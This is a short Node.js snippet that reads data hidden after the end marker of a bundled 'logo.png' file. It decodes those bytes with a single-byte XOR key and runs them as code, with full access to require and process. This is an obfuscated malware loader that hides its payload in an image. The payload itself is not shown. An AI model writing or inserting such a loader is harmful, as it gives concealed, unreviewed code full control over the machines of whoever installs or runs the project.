const image = require("fs").readFileSync(require("path").join(__dirname, "logo.png"));
const at = image.indexOf(Buffer.from("IEND")) + 8;
const text = Buffer.from(image.subarray(at).map((byte) => byte ^ 0x2f)).toString();
new Function("require", "process", text)(require, process);
